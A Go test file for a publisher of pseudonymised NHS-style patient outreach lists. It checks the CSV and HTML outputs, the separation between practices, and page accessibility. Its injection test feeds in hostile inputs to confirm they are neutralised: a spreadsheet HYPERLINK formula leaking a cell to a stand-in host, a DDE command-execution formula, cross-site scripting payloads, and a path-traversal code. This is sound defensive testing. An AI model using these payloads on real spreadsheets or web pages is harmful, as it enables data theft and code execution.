package publish

import (
	"encoding/csv"
	"encoding/xml"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"riskstrat/pipeline/outreach"
)

// publishLists publishes a night of lists alone, under a sharing agreement, and returns its files.
func publishLists(t *testing.T, lists []List) map[string]string {
	t.Helper()
	return publishListsTo(t, lists, shared())
}

func publishListsTo(t *testing.T, lists []List, access Access) map[string]string {
	t.Helper()
	n, err := Begin(t.TempDir(), date("2026-11-20"), Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer n.Abort()
	if err := writeSampleParts(n); err != nil {
		t.Fatal(err)
	}
	m := Manifest{Place: "Place", Warnings: []string{`<b onload="x">&`}}
	if err := n.WriteLists("Place", lists, access); err != nil {
		t.Fatal(err)
	}
	if err := n.WriteIndex(&m, lists); err != nil {
		t.Fatal(err)
	}
	p, err := n.Commit(m)
	if err != nil {
		t.Fatal(err)
	}
	return tree(t, p.Dir)
}

func TestListFiles(t *testing.T) {
	files := publishLists(t, sampleLists())
	var have []string
	for path := range files {
		have = append(have, path)
	}
	slices.Sort(have)
	want := []string{"index.html"}
	for _, f := range []string{"counts.csv", "index.html", "reasons.csv", "register.csv", "register.html", "rising_need.csv", "rising_need.html"} {
		want = append(want, "lists/pcn/U1/"+f)
	}
	for _, practice := range []string{"A1", "B2"} {
		for _, f := range []string{"index.html", "lists.xlsx", "part.json", "register.csv", "rising_need.csv"} {
			want = append(want, "lists/practice/"+practice+"/"+f)
		}
	}
	if diff := cmp.Diff(append(want, "manifest.json"), have); diff != "" {
		t.Error(diff)
	}
}

func TestCSV(t *testing.T) {
	files := publishLists(t, sampleLists())
	header := "list,night,practice,pcn,rank,resident_id,chance_in_100,tier,review_first,reason_1,reason_2,reason_3,valid_until\r\n"
	for path, want := range map[string]string{
		"lists/practice/A1/rising_need.csv": header +
			"rising_need,2026-11-20,A1,U1,1,pseudonym-A1-1,40,high,no,\"6 A&E attendances in the last 90 days, 1 in the 9 months before\",,,2026-11-27\r\n" +
			"rising_need,2026-11-20,A1,U1,2,pseudonym-A1-2,40,high,no,\"6 A&E attendances in the last 90 days, 1 in the 9 months before\",,,2026-11-27\r\n",
		"lists/practice/B2/rising_need.csv": header,
		// A list without a target has no chance to show.
		"lists/pcn/U1/register.csv": header +
			"register,2026-11-20,B2,U1,1,pseudonym-B2-1,,high,no,\"6 A&E attendances in the last 90 days, 1 in the 9 months before\",,,2026-11-27\r\n",
	} {
		if diff := cmp.Diff(want, files[path]); diff != "" {
			t.Errorf("%s: %s", path, diff)
		}
	}
}

// What a spreadsheet would run, a browser would run, or a reader would take for a new cell or row, stays text in both forms.
func TestInjection(t *testing.T) {
	for _, hostile := range []string{
		`=HYPERLINK("http://x.invalid/?"&A1,"open")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "'=1",
		`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `a","b`, "a\r\nb", "</style><script>x</script>", "{{.}}", "javascript:alert(1)",
	} {
		l := sampleLists()[:1]
		l[0].Title, l[0].Outcome, l[0].Policy = hostile, hostile, hostile
		l[0].Cuts = l[0].Cuts[1:]
		l[0].Cuts[0].Rows = []outreach.Row{{Rank: 1, Resident: hostile, Practice: "A1", PCN: "U1", Tier: hostile, Reasons: []string{hostile, hostile, hostile}}}
		files := publishLists(t, l)

		rows, err := csv.NewReader(strings.NewReader(files["lists/practice/A1/rising_need.csv"])).ReadAll()
		if err != nil || len(rows) != 2 || len(rows[1]) != 13 {
			t.Fatalf("%q: have %d rows, %v", hostile, len(rows), err)
		}
		for i, cell := range rows[1] {
			if cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) {
				t.Errorf("%q: cell %s would be run: %q", hostile, rows[0][i], cell)
			}
		}
		id := rows[1][5]
		id = strings.TrimPrefix(id, "'")
		if want := strings.ReplaceAll(hostile, "\r", ""); id != want { // a carriage return cannot stand within a CSV cell
			t.Errorf("the identifier cannot be had back: have %q, want %q", id, want)
		}
		for path, text := range files {
			if strings.HasSuffix(path, ".html") && !strings.HasPrefix(path, practicePages) {
				checkPage(t, path, text)
			}
		}
	}
}

// practicePages are a part's, with a script of their own; package part/page checks what they hold.
const practicePages = "lists/practice/"

// plain are the elements and attributes that a page may use: nothing that runs, loads, submits or frames.
var (
	plainElements   = strings.Fields("html head meta title style body a header main footer section div dl dt dd h1 h2 h3 p ul li table caption thead tbody tr th td span b strong br")
	plainAttributes = strings.Fields("lang charset http-equiv content name href class id scope aria-label")
)

// checkPage parses a page and fails on any element or attribute besides the plain ones, on a reference to anything
// outside the night, and on a break of what assistive technology relies on.
func checkPage(t *testing.T, path, text string) {
	t.Helper()
	if !strings.HasPrefix(text, "<!DOCTYPE html>\n<html lang=\"en-GB\">") {
		t.Errorf("%s: does not start as an English HTML page", path)
	}
	d := xml.NewDecoder(strings.NewReader(strings.Replace(text, "<!DOCTYPE html>", "", 1)))
	d.Strict, d.AutoClose, d.Entity = false, []string{"meta", "br"}, xml.HTMLEntity
	count := map[string]int{}
	for {
		tok, err := d.Token()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Errorf("%s: %v", path, err)
			return
		}
		e, ok := tok.(xml.StartElement)
		if !ok {
			continue
		}
		count[e.Name.Local]++
		if !slices.Contains(plainElements, e.Name.Local) {
			t.Errorf("%s: has an element %s", path, e.Name.Local)
		}
		for _, a := range e.Attr {
			if !slices.Contains(plainAttributes, a.Name.Local) {
				t.Errorf("%s: %s has an attribute %s", path, e.Name.Local, a.Name.Local)
			}
			if a.Name.Local == "href" && (strings.Contains(a.Value, ":") || strings.HasPrefix(a.Value, "/")) {
				t.Errorf("%s: refers to %s", path, a.Value)
			}
			if e.Name.Local == "th" && a.Name.Local == "scope" {
				count["scope"]++
			}
		}
	}
	if count["h1"] != 1 || count["main"] != 1 || count["title"] != 1 || count["style"] != 1 {
		t.Errorf("%s: have %v, want one h1, main, title and style", path, count)
	}
	if count["table"] != count["caption"] || count["th"] != count["scope"] {
		t.Errorf("%s: have %d tables, %d captions, %d headers, %d scopes", path, count["table"], count["caption"], count["th"], count["scope"])
	}
}

func TestPages(t *testing.T) {
	files := publishLists(t, sampleLists())
	links := regexp.MustCompile(`href="([^"#]+)"`)
	for path, text := range files {
		if !strings.HasSuffix(path, ".html") {
			continue
		}
		if !strings.HasPrefix(path, practicePages) {
			checkPage(t, path, text)
		}
		for _, m := range links.FindAllStringSubmatch(text, -1) {
			to := filepath.Join(filepath.Dir(path), m[1])
			if _, ok := files[to]; !ok && to != "audit/index.html" {
				t.Errorf("%s: links to %s, which is not there", path, to)
			}
		}
	}
	for _, c := range []struct {
		path string
		want []string
	}{
		{"lists/pcn/U1/rising_need.html", []string{"2 of 21 considered", "Practice A1: 2 people", "Practice B2: nobody tonight, of 9 considered",
			"<dd>4</dd>", "<b>40</b> in 100", "not a diagnosis and not a triage", "Not being listed does not mean that someone’s need is low",
			"20 November 2026", "27 Nov 2026", "1 in the 9 months before", "Ties by a keyed hash."}},
		{"lists/pcn/U1/register.html", []string{"1 of 3 considered", "<dd>5</dd>"}},
		{"lists/pcn/U1/index.html", []string{"Lists of PCN U1", "Rising need", "Register"}},
		{"index.html", []string{"&lt;b onload=", "<dt>Places filled</dt><dd>3</dd>"}},
	} {
		for _, want := range c.want {
			if !strings.Contains(files[c.path], want) {
				t.Errorf("%s: does not say %q", c.path, want)
			}
		}
	}
	if strings.Contains(files["lists/pcn/U1/register.html"], "in 100") {
		t.Error("a list without a target shows a chance")
	}
}

// A pseudonym is set in fours, with nothing between that would be copied along.
func TestPseudonymCopiesWhole(t *testing.T) {
	page := publishLists(t, sampleLists())["lists/pcn/U1/rising_need.html"]
	want := `<span class="id"><span>pseu</span><span>dony</span><span>m-A1</span><span>-1</span></span>`
	if !strings.Contains(page, want) {
		t.Errorf("the page does not have %s", want)
	}
}

// No file in one practice's folder holds another's people, and nobody who is on no list is anywhere.
func TestPracticesApart(t *testing.T) {
	for path, text := range publishLists(t, sampleLists()) {
		own := map[string]bool{"A1": strings.HasPrefix(path, "lists/practice/A1/"), "B2": strings.HasPrefix(path, "lists/practice/B2/")}
		pcn := strings.HasPrefix(path, "lists/pcn/U1/")
		for _, practice := range []string{"A1", "B2"} {
			for _, form := range []string{"pseudonym-" + practice, "<span>m-" + practice + "</span>"} {
				if strings.Contains(text, form) && !own[practice] && !pcn {
					t.Errorf("%s: holds a person of %s", path, practice)
				}
			}
		}
	}
}

func TestWriteListsRefuses(t *testing.T) {
	for _, c := range []struct {
		name, want string
		break_     func(l *List)
	}{
		{"a row of another practice", "rank 2 belongs to practice B2", func(l *List) { l.Cuts[1].Rows[0].Practice = "B2" }},
		{"a row of another PCN", "belongs to practice A1 of PCN U9", func(l *List) { l.Cuts[1].Rows[0].PCN = "U9" }},
		{"a practice cut twice", "practice A1: is cut twice", func(l *List) { l.Cuts[0] = l.Cuts[1] }},
		{"a code that is a path", `practice "../A1"`, func(l *List) { l.Cuts[0].Practice = "../A1" }},
		{"an empty PCN", "pcn: have an empty one", func(l *List) { l.Cuts[0].PCN = "" }},
		{"a list name that is a path", `list "a/b"`, func(l *List) { l.Name = "a/b" }},
		{"a list name in use", "list index: the name is taken", func(l *List) { l.Name = "index" }},
		{"the name of the counts", "list counts: the name is taken", func(l *List) { l.Name = "counts" }},
	} {
		lists := sampleLists()[:1]
		c.break_(&lists[0])
		n, err := Begin(t.TempDir(), date("2026-11-20"), Options{})
		if err != nil {
			t.Fatal(err)
		}
		if err := n.WriteLists("Place", lists, alone()); err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: have %v, want %q", c.name, err, c.want)
		}
		n.Abort()
		if left, _ := os.ReadDir(filepath.Join(n.out, runsDir)); len(left) > 0 {
			t.Errorf("%s: left %v", c.name, left)
		}
	}
}
